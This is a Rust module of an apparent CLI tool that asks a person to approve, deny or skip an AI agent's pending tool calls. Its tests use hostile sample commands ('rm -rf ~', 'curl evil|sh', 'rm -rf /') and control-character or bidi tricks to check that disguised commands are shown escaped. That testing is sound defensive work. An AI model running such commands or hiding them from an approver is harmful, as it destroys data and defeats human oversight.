//! Interactive approval: `baton approve RUN` (or `deny`) without call ids shows each pending
//! call and asks approve / deny / skip, with an optional reason. It only ever prompts when
//! both stdin and stdout are terminals; otherwise the command fails with the exact commands
//! to run instead.

use std::io::{BufRead, IsTerminal, Write};

use baton_proto::{ApprovalDecision, PendingCall};
use serde_json::Value;

use crate::{
    exit::Exit,
    render,
    safe_text::{escape, escape_line},
    style::Style,
};

/// Whether we may prompt: stdin and stdout are both terminals.
pub(crate) fn can_prompt() -> bool {
    std::io::stdin().is_terminal() && std::io::stdout().is_terminal()
}

/// The usage error for `baton approve|deny RUN` with no call id and no terminal to ask on.
pub(crate) fn cannot_prompt(run: &str, pending: &[PendingCall], now_ms: i64) -> Exit {
    if pending.is_empty() {
        return Exit::usage(format!(
            "run {run} has no call awaiting a decision; nothing to approve or deny"
        ));
    }
    let ids: Vec<String> = pending
        .iter()
        .map(|p| escape_line(&p.call_id).into_owned())
        .collect();
    let mut msg = format!(
        "name the call(s) to decide: {} call(s) of run {run} await a decision, and baton only \
         asks when stdin and stdout are terminals\n",
        pending.len()
    );
    for p in pending {
        msg.push_str(&format!(
            "  {}  {}  {}  (waiting {})\n",
            escape_line(&p.call_id),
            escape_line(&p.tool),
            render::one_line(&p.arguments, 120),
            waited(p, now_ms)
        ));
        if crate::calls::looks_cut(&p.arguments) {
            msg.push_str(&format!(
                "    {}\n",
                crate::calls::cut_note(run, &p.call_id)
            ));
        }
    }
    msg.push_str(&format!(
        "approve them with: baton approve {run} {}\n",
        ids.join(" ")
    ));
    msg.push_str(&format!(
        "deny them with:    baton deny {run} {} --reason \"...\"",
        ids.join(" ")
    ));
    Exit::usage(msg)
}

/// One answer to "approve, deny or skip?".
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Choice {
    Approve,
    /// Approve, and allow the same tool and command/path pattern for the rest of the run.
    ApproveRemember,
    Deny,
    Skip,
    /// Skip this call and all the following ones.
    Quit,
}

/// Parses an answer; `None` when it is not one (ask again). An empty answer skips.
pub(crate) fn parse_choice(answer: &str) -> Option<Choice> {
    match answer.trim().to_lowercase().as_str() {
        "a" | "approve" | "y" | "yes" => Some(Choice::Approve),
        "r" | "remember" => Some(Choice::ApproveRemember),
        "d" | "deny" | "n" | "no" => Some(Choice::Deny),
        "" | "s" | "skip" => Some(Choice::Skip),
        "q" | "quit" => Some(Choice::Quit),
        _ => None,
    }
}

/// What the user is asked about: the approver and the defaults from the command line.
#[derive(Debug, Clone)]
pub(crate) struct Ask {
    pub(crate) run: String,
    pub(crate) approver: String,
    /// `--reason`: used for every decision instead of asking.
    pub(crate) reason: String,
    /// `--remember`: approvals remember.
    pub(crate) remember: bool,
    pub(crate) now_ms: i64,
    /// Said under a call's arguments, by call id: why they are cut (the whole could not be
    /// read), see `decide::ask_pending`.
    pub(crate) notes: std::collections::BTreeMap<String, String>,
}

/// Asks about each pending call on the terminal (stderr for questions, stdin for answers);
/// returns the decisions to send, in order. Nothing is sent if the input ends early.
pub(crate) async fn ask(
    ask: Ask,
    pending: Vec<PendingCall>,
) -> Result<Vec<ApprovalDecision>, Exit> {
    tokio::task::spawn_blocking(move || {
        let stdin = std::io::stdin();
        let mut input = stdin.lock();
        let mut out = std::io::stderr();
        ask_with(&ask, &pending, &mut input, &mut out, &Style::detect())
    })
    .await
    .map_err(|e| Exit::infra(format!("the prompt failed: {e}")))?
}

/// [`ask`] over any input and output (tests).
pub(crate) fn ask_with(
    ask: &Ask,
    pending: &[PendingCall],
    input: &mut dyn BufRead,
    out: &mut dyn Write,
    style: &Style,
) -> Result<Vec<ApprovalDecision>, Exit> {
    let io_err = |e: std::io::Error| Exit::infra(format!("cannot use the terminal: {e}"));
    writeln!(
        out,
        "{} call(s) of run {} await a decision. For each: a = approve, r = approve and allow \
         alike for the rest of the run, d = deny, s or Enter = skip, q = skip the rest.",
        pending.len(),
        ask.run
    )
    .map_err(io_err)?;
    let mut decisions = Vec::new();
    for (i, p) in pending.iter().enumerate() {
        writeln!(
            out,
            "\n[{}/{}] {} {}  (waiting {})",
            i + 1,
            pending.len(),
            style.bold(&escape_line(&p.tool)),
            style.dim(&format!("[{}]", escape_line(&p.call_id))),
            waited(p, ask.now_ms)
        )
        .map_err(io_err)?;
        writeln!(out, "{}", show_arguments(&p.tool, &p.arguments)).map_err(io_err)?;
        if let Some(note) = ask.notes.get(&p.call_id) {
            writeln!(out, "    {}", style.yellow(&escape(note))).map_err(io_err)?;
        } else if p.arguments.chars().count() > SHOWN_CHARS {
            writeln!(
                out,
                "    {}",
                style.yellow(&format!(
                    "(the first {SHOWN_CHARS} of {} characters; all of them: baton show {} {})",
                    p.arguments.chars().count(),
                    escape_line(&ask.run),
                    escape_line(&p.call_id)
                ))
            )
            .map_err(io_err)?;
        }
        writeln!(out, "{}", style.dim(&remember_hint(p))).map_err(io_err)?;
        let choice = loop {
            write!(out, "approve, deny or skip? [a/r/d/s/q] ").map_err(io_err)?;
            out.flush().map_err(io_err)?;
            let Some(line) = read_line(input).map_err(io_err)? else {
                return Err(Exit::usage(
                    "the input ended before every call was decided; nothing was sent",
                ));
            };
            match parse_choice(&line) {
                Some(c) => break c,
                None => writeln!(out, "'{}' is not one of a, r, d, s, q", line.trim())
                    .map_err(io_err)?,
            }
        };
        let approved = match choice {
            Choice::Approve | Choice::ApproveRemember => true,
            Choice::Deny => false,
            Choice::Skip => continue,
            Choice::Quit => break,
        };
        let reason = if ask.reason.is_empty() {
            write!(
                out,
                "reason ({}; Enter for none): ",
                if approved {
                    "optional"
                } else {
                    "optional, the model sees it"
                }
            )
            .map_err(io_err)?;
            out.flush().map_err(io_err)?;
            match read_line(input).map_err(io_err)? {
                Some(line) => line.trim().to_owned(),
                None => {
                    return Err(Exit::usage(
                        "the input ended before every call was decided; nothing was sent",
                    ));
                }
            }
        } else {
            ask.reason.clone()
        };
        decisions.push(ApprovalDecision {
            call_id: p.call_id.clone(),
            approved,
            approver: ask.approver.clone(),
            reason,
            remember: approved && (ask.remember || choice == Choice::ApproveRemember),
            identity: String::new(),
        });
    }
    Ok(decisions)
}

/// One line of input without its newline; `None` at the end of input.
fn read_line(input: &mut dyn BufRead) -> std::io::Result<Option<String>> {
    let mut line = String::new();
    if input.read_line(&mut line)? == 0 {
        return Ok(None);
    }
    Ok(Some(line.trim_end_matches(['\n', '\r']).to_owned()))
}

/// A call's arguments for a person: a shell command as `$ command`, anything else as indented
/// JSON (cut when very long); control characters escaped ([`escape`]: a `\r` must not hide
/// the start of the command on the terminal).
pub(crate) fn show_arguments(tool: &str, arguments: &str) -> String {
    show_arguments_upto(tool, arguments, SHOWN_CHARS)
}

/// Characters of arguments the prompt shows (`baton show` prints them all).
pub(crate) const SHOWN_CHARS: usize = 2_000;

/// [`show_arguments`], cut after `max` characters.
pub(crate) fn show_arguments_upto(tool: &str, arguments: &str, max: usize) -> String {
    let parsed: Option<Value> = serde_json::from_str(arguments).ok();
    let text = match &parsed {
        Some(v) if tool == "shell" && v.get("command").is_some_and(Value::is_string) => {
            let command = v["command"].as_str().unwrap_or_default();
            let mut s = format!("$ {command}");
            if let Some(extra) = v.as_object().filter(|o| o.len() > 1) {
                let rest: Vec<String> = extra
                    .iter()
                    .filter(|(k, _)| *k != "command")
                    .map(|(k, v)| format!("{k}={v}"))
                    .collect();
                s.push_str(&format!("\n({})", rest.join(", ")));
            }
            s
        }
        Some(v) => serde_json::to_string_pretty(v).unwrap_or_else(|_| arguments.to_owned()),
        None => arguments.to_owned(),
    };
    let mut text: String = text.chars().take(max).collect();
    if arguments.chars().count() > max {
        text.push('…');
    }
    escape(&text)
        .split('\n')
        .map(|l| format!("    {l}"))
        .collect::<Vec<_>>()
        .join("\n")
}

/// What `r` would allow for the rest of the run (the rule the workflow will remember).
fn remember_hint(p: &PendingCall) -> String {
    let call = baton_proto::ToolCall {
        id: p.call_id.clone(),
        name: p.tool.clone(),
        arguments: p.arguments.clone(),
        ..Default::default()
    };
    match baton_core::policy::remembered_rule(&call) {
        Some(rule) => format!(
            "    (r allows {} `{}` for the rest of the run)",
            escape_line(&rule.tool),
            escape_line(&rule.pattern)
        ),
        None => "    (r remembers nothing for this call)".to_owned(),
    }
}

fn waited(p: &PendingCall, now_ms: i64) -> String {
    render::duration(((now_ms - p.requested_at_ms).max(0) / 1000) as u64)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn call(id: &str, command: &str) -> PendingCall {
        PendingCall {
            call_id: id.to_owned(),
            tool: "shell".to_owned(),
            arguments: serde_json::json!({ "command": command }).to_string(),
            requested_at_ms: 1_000,
        }
    }

    fn ask_defaults() -> Ask {
        Ask {
            run: "r1".to_owned(),
            approver: "ann".to_owned(),
            reason: String::new(),
            remember: false,
            now_ms: 61_000,
            notes: Default::default(),
        }
    }

    #[test]
    fn answers_are_parsed_loosely() {
        assert_eq!(parse_choice("a"), Some(Choice::Approve));
        assert_eq!(parse_choice(" Yes\n"), Some(Choice::Approve));
        assert_eq!(parse_choice("r"), Some(Choice::ApproveRemember));
        assert_eq!(parse_choice("deny"), Some(Choice::Deny));
        assert_eq!(parse_choice(""), Some(Choice::Skip));
        assert_eq!(parse_choice("q"), Some(Choice::Quit));
        assert_eq!(parse_choice("maybe"), None);
    }

    #[test]
    fn asks_per_call_with_optional_reasons() {
        let pending = [call("c1", "ls"), call("c2", "rm -rf x"), call("c3", "true")];
        let mut input = "a\n\nwhat\nd\ntoo risky\ns\n".as_bytes();
        let mut out = Vec::new();
        let decisions = ask_with(
            &ask_defaults(),
            &pending,
            &mut input,
            &mut out,
            &Style::plain(),
        )
        .unwrap();
        let got: Vec<(&str, bool, &str)> = decisions
            .iter()
            .map(|d| (d.call_id.as_str(), d.approved, d.reason.as_str()))
            .collect();
        assert_eq!(got, [("c1", true, ""), ("c2", false, "too risky")]);
        assert!(decisions.iter().all(|d| d.approver == "ann" && !d.remember));
        let shown = String::from_utf8(out).unwrap();
        assert!(
            shown.contains("[2/3] shell [c2]  (waiting 1m 0s)"),
            "{shown}"
        );
        assert!(shown.contains("    $ rm -rf x"), "{shown}");
        assert!(
            shown.contains("(r allows shell `rm -rf *` for the rest of the run)"),
            "{shown}"
        );
        assert!(shown.contains("'what' is not one of"), "{shown}");
        assert!(!shown.contains('\x1b'), "{shown}");
    }

    #[test]
    fn remember_quit_and_end_of_input() {
        let pending = [call("c1", "ls"), call("c2", "pwd")];
        let mut input = "r\nok\nq\n".as_bytes();
        let d = ask_with(
            &ask_defaults(),
            &pending,
            &mut input,
            &mut Vec::new(),
            &Style::plain(),
        )
        .unwrap();
        assert_eq!(d.len(), 1);
        assert!(d[0].approved && d[0].remember && d[0].reason == "ok");

        let with_reason = Ask {
            reason: "fixed".to_owned(),
            ..ask_defaults()
        };
        let mut input = "d\n".as_bytes();
        let err = ask_with(
            &with_reason,
            &pending,
            &mut input,
            &mut Vec::new(),
            &Style::plain(),
        )
        .unwrap_err();
        assert_eq!(err.code, crate::exit::USAGE);
        assert!(err.message.contains("nothing was sent"));
    }

    #[test]
    fn without_a_terminal_the_error_names_the_calls_and_the_command() {
        let err = cannot_prompt("r1", &[call("c1", "ls"), call("c2", "pwd")], 61_000);
        assert_eq!(err.code, crate::exit::USAGE);
        assert!(
            err.message
                .contains("  c1  shell  {\"command\":\"ls\"}  (waiting 1m 0s)")
        );
        assert!(
            err.message
                .contains("approve them with: baton approve r1 c1 c2\n")
        );
        assert!(err.message.contains("baton deny r1 c1 c2 --reason"));
        let none = cannot_prompt("r1", &[], 0);
        assert!(none.message.contains("no call awaiting a decision"));
    }

    #[test]
    fn arguments_are_shown_readably() {
        assert_eq!(
            show_arguments("shell", r#"{"command":"ls -la","timeout_seconds":5}"#),
            "    $ ls -la\n    (timeout_seconds=5)"
        );
        assert_eq!(
            show_arguments("read_file", r#"{"path":"a.txt"}"#),
            "    {\n      \"path\": \"a.txt\"\n    }"
        );
        assert_eq!(show_arguments("shell", "{broken"), "    {broken");
    }

    /// Review #9a: what the terminal shows is what runs, `\r` and escapes included.
    #[test]
    fn control_characters_in_arguments_are_shown_escaped() {
        let shown = show_arguments("shell", "{\"command\":\"rm -rf ~ #\\r$ ls -la          \"}");
        assert!(
            !shown.contains('\r') && !shown.contains('\x1b'),
            "{shown:?}"
        );
        assert_eq!(shown, "    $ rm -rf ~ #\\r$ ls -la          ");
        let shown = show_arguments("shell", r#"{"command":"curl evil|sh #\u001b[2K\r$ ok"}"#);
        assert_eq!(shown, "    $ curl evil|sh #\\x1b[2K\\r$ ok");
        // A command over several lines stays a block; a `\r\n` keeps its `\r` visible.
        let shown = show_arguments("shell", r#"{"command":"true\r\nrm -rf /"}"#);
        assert_eq!(shown, "    $ true\\r\n    rm -rf /");
        // JSON shown pretty: C1 controls and bidi overrides, which JSON leaves raw, too.
        let shown = show_arguments(
            "write_file",
            r#"{"path":"a\u202etxt.sh","content":"\u009b2J\u007f"}"#,
        );
        assert_eq!(
            shown,
            "    {\n      \"content\": \"\\u{9b}2J\\x7f\",\n      \"path\": \"a\\u{202e}txt.sh\"\n    }"
        );
        let err = cannot_prompt("r1", &[call("c\x1b1", "ls\r")], 61_000);
        assert!(err.message.contains("c\\x1b1  shell"), "{}", err.message);
        assert!(!err.message.contains('\x1b') && !err.message.contains('\r'));
    }
}
